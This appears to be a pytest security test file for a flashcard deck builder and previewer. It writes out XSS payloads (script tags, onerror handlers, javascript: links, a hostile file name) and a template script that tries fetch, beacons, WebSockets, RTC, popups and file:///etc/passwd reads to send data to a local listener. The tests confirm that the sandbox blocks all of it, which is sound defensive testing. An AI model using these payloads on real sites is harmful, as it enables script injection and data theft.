"""What strangers write, and what strangers ask: each of these attacks does nothing.

A stranger may have written the deck, its templates and its media, or may have made a page that the
teacher has open in another tab.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from subprocess import CompletedProcess

import pytest
from support.browser import needs_browser
from support.gallery import Gallery, gallery, looking
from support.projects import write_project

MARK = "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 2'>"

# The name of a picture, as far as file systems allow it.
PICTURE = "\"><img src=x onerror='window.pwned=3'>&amp;.png"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360"
    "606060000000050001a5f645400000000049454e44ae426082"
)

# A card's script tries every way out and to the page; what it sees goes to its own body.
TEMPLATE = """{{Depan}}<p id="told"></p><link rel="preconnect" href="http://127.0.0.1:%(port)d">
<link rel="prefetch" href="http://127.0.0.1:%(port)d/prefetch">
<img src="http://127.0.0.1:%(port)d/picture"><iframe src="http://127.0.0.1:%(port)d/frame"></iframe>
<form action="http://127.0.0.1:%(port)d/form"><input name="a"></form>
<script>
(() => {
  const out = "http://127.0.0.1:%(port)d/";
  const seen = [];
  const attempt = (name, act) => {
    try { act(); seen.push(name); } catch (error) { seen.push(`no ${name}`); }
  };
  attempt("page", () => parent.document.title);
  attempt("top", () => { top.location = `${out}top`; });
  attempt("storage", () => localStorage.length);
  attempt("cookie", () => document.cookie);
  attempt("fetch", () => fetch(`${out}fetch`).catch(() => 0));
  attempt("file", () => fetch("file:///etc/passwd").then((found) => found.text()).then(
    (text) => { document.title = text; }, () => 0));
  attempt("beacon", () => navigator.sendBeacon(`${out}beacon`, "a"));
  attempt("socket", () => new WebSocket(out.replace("http", "ws")));
  attempt("events", () => new EventSource(`${out}events`));
  attempt("popup", () => open(`${out}popup`).focus());
  attempt("form", () => document.forms[0].submit());
  attempt("worker", () => new Worker(`${out}worker`));
  attempt("rtc", () => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:%(port)d" }] });
    call.createDataChannel("a");
    call.createOffer().then((offer) => call.setLocalDescription(offer));
  });
  for (const what of [{ kartu: "painted" }, { kartu: "key", key: "<b>" }, "text", null])
    parent.postMessage(what, "*");
  document.getElementById("told").textContent = seen.join(", ");
  setTimeout(() => { location = `${out}self?secret`; }, 700);
})();
</script>"""

DECK = f"""--- cards/contoh/deck.yaml
id: contoh
uid: a1b2c3d4e5f60718
name: "Contoh <img src=x onerror=window.pwned=4>"
language: id
version: 1.0.0
description: |
  {MARK} [a link](javascript:window.pwned=5) **bold**
licence: "{MARK}"
authors: ["{MARK}"]
report: 'https://example.org/"><script>window.pwned=10</script>'
sources:
  artikel: {{title: "{MARK}", publisher: "{MARK}", url: "https://example.org/?a=%22%3E<script>"}}
editions:
  inti: {{title: "{MARK}", include: "tag:inti"}}
"""

NOTES = f"""--- cards/contoh/kartu.yaml
note_type: dasar
subdeck: "01 <b onmouseover=window.pwned=6>"
tags: ["<script>window.pwned=7</script>", inti]
notes:
  - id: satu
    depan: "{MARK}</script>"
    belakang: "<script>window.pwned = 9</script> <b onclick='x'>b</b> [a](javascript:pwned=8)"
  - id: dua
    depan: "Dua"
    gambar: {json.dumps(PICTURE)}
"""

NOTE_TYPE = """--- templates/dasar/note_type.yaml
id: dasar
name: Dasar
fields:
  - {key: depan, name: Depan, id: 1, required: true}
  - {key: belakang, name: Belakang, id: 2, format: markdown}
  - {key: gambar, name: Gambar, id: 3, format: image}
cards:
  - {id: 1, name: Maju, front: maju.front.html, back: maju.back.html}
--- templates/dasar/maju.back.html
{{FrontSide}}{{Belakang}}{{Gambar}}
"""


@contextmanager
def listener() -> Iterator[tuple[int, list[str]]]:
    """A port of this computer where any connection or packet is noted."""
    stream, packets = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stream.bind(("127.0.0.1", 0))
    stream.listen()
    port = stream.getsockname()[1]
    packets.bind(("127.0.0.1", port))
    heard: list[str] = []

    def accept() -> None:
        while True:
            try:
                connection, _ = stream.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    heard.append(f"request {connection.recv(100)!r}")
                except OSError:
                    heard.append("connection")

    def receive() -> None:
        while True:
            try:
                heard.append(f"packet of {len(packets.recv(2000))}")
            except OSError:
                return

    for work in (accept, receive):
        threading.Thread(target=work, daemon=True).start()
    try:
        yield port, heard
    finally:
        stream.close()
        packets.close()


def project_of_a_stranger(root: Path, port: int) -> Path:
    """A deck in which everything is an attack."""
    template = f"--- templates/dasar/maju.front.html\n{TEMPLATE % {'port': port}}"
    write_project(root, NOTE_TYPE, DECK, NOTES, template)
    (root / "cards/contoh/media").mkdir()
    (root / "cards/contoh/media" / PICTURE).write_bytes(PNG)
    return root


def is_unharmed(page: Gallery) -> None:
    """The cards' scripts ran, saw nothing, and the page is what it was."""
    page.wait("document.querySelectorAll('.tile[data-painted]').length === 2")
    frames = page.run("[...document.querySelectorAll('iframe')].map((one) => `${one.sandbox}`)")
    assert frames == ["allow-scripts"] * 2
    page.click("#flip-all")
    page.run("new Promise((done) => setTimeout(done, 1500))")
    assert page.run("typeof window.pwned") == "undefined"
    assert page.run("document.title").startswith("Contoh")
    assert (
        page.run("[...document.querySelectorAll('a')].some((a) => a.protocol === 'javascript:')")
        is False
    )
    assert page.run("document.querySelectorAll('img, #handout *, [onmouseover]').length") == 0
    page.run("window.dispatchEvent(new Event('beforeprint'))")
    assert page.run("document.querySelectorAll('#handout .pair').length") == 2
    kept = "[...document.querySelectorAll('#handout *')].every((one) => one.attributes.length <= 2)"
    assert page.run(kept)
    assert (
        page.run("document.querySelector('#handout script, #handout iframe, #handout form')")
        is None
    )
    assert page.run("typeof window.pwned") == "undefined"


@pytest.fixture(scope="module")
def browser() -> Iterator[Gallery]:
    """One browser for all of these."""
    with gallery() as opened:
        yield opened


@needs_browser
def test_nothing_leaves_the_preview(browser: Gallery, tmp_path: Path) -> None:
    """Not a request, not a connection, not a packet: Chromium is told to allow a card none."""
    with listener() as (port, heard):
        root = project_of_a_stranger(tmp_path / "proyek", port)
        with looking(root) as address:
            browser.open(address)
            told = browser.in_frames("document.getElementById('told')?.textContent || ''")
            assert any("no page" in text and "no storage" in text for text in told), told
            is_unharmed(browser)
        assert heard == []


@needs_browser
@pytest.mark.parametrize("page", ["index.html", "en.html", "cards.html"])
def test_no_request_leaves_the_site(
    browser: Gallery, tmp_path: Path, kartu: Callable[..., CompletedProcess[str]], page: str
) -> None:
    """Opened from a disk, with no server that could say more than the pages themselves."""
    with listener() as (port, heard):
        root = project_of_a_stranger(tmp_path / "proyek", port)
        done = kartu("site", "-o", tmp_path / "site", cwd=root)
        assert done.returncode == 0, done.stderr
        browser.open((tmp_path / "site" / page).as_uri(), painted=page == "cards.html")
        if page == "cards.html":
            is_unharmed(browser)
        assert browser.run("typeof window.pwned") == "undefined"
        assert browser.run("document.querySelectorAll('body script, main img').length") == 0
        # Without a server's headers a card can still make Chromium open a bare connection.
        assert [one for one in heard if one.startswith("request") and one != "request b''"] == []
